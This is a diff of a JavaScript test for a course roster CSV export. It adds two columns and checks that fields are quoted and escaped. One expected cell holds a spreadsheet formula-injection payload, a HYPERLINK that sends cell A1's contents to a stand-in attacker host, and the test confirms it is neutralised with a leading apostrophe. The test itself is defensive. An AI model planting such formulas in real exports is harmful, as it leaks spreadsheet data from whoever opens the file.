@@ -194,10 +194,12 @@ describe('roster', () => {
     expect(res.headers['content-type']).toMatch(/^text\/csv/);
     expect(res.headers['content-disposition']).toBe('attachment; filename="ink-wash-basics-roster.csv"');
     const lines = res.body.split('\r\n').filter(Boolean);
-    expect(lines[0]).toBe('"Session start","Name","Email","Status","Payment","Enrolled at","Waitlist place","Offer held until"');
+    expect(lines[0]).toBe(
+      '"Session start","Name","Email","Status","Payment","Enrolled at","Waitlist place","Offer held until","Age","Contact"',
+    );
     expect(lines).toHaveLength(1 + 4);
     // Every field is quoted; embedded quotes are doubled; the comma stays inside its field.
-    for (const line of lines) expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*"){7}$/);
+    for (const line of lines) expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*"){9}$/);
     const hackerLine = lines.find((l) => l.includes(hacker.email))!;
     const nameCell = hackerLine.split('","')[1];
     expect(nameCell).toBe(`'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"") Smith, Jr.`);
